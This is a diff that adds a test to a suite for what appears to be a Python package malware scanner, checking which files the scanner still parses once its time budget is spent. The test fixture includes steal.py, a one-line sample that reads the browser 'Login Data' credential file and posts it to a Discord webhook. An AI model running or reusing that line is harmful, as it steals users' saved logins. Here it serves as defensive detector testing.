@@ -103,6 +103,23 @@ describe('python parse budget', () => {
     expect(facts.textOnly).toEqual(['demo-1.0/demo/big_b.py']);
   });
 
+  it('stops parsing files without indicators once the time budget is spent', async () => {
+    await initPythonParser();
+    const filler = 'import subprocess\n' + 'def f():\n    subprocess.run(["ls"])\n'.repeat(20);
+    const ctx = context({
+      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
+      'demo-1.0/demo/big_a.py': filler,
+      'demo-1.0/demo/steal.py':
+        'import requests\nrequests.post("https://discord.com/api/webhooks/1/x", data=open("Login Data").read())\n',
+    });
+    const facts = pythonPackageFacts(ctx, 10 * 1024 * 1024, 0);
+    expect(facts.files.map((f) => f.path).sort()).toEqual([
+      'demo-1.0/demo/steal.py',
+      'demo-1.0/setup.py',
+    ]);
+    expect(facts.textOnly).toEqual(['demo-1.0/demo/big_a.py']);
+  });
+
   it('does not parse files whose only trigger words sit in comments and docstrings', async () => {
     await initPythonParser();
     const facts = pythonPackageFacts(
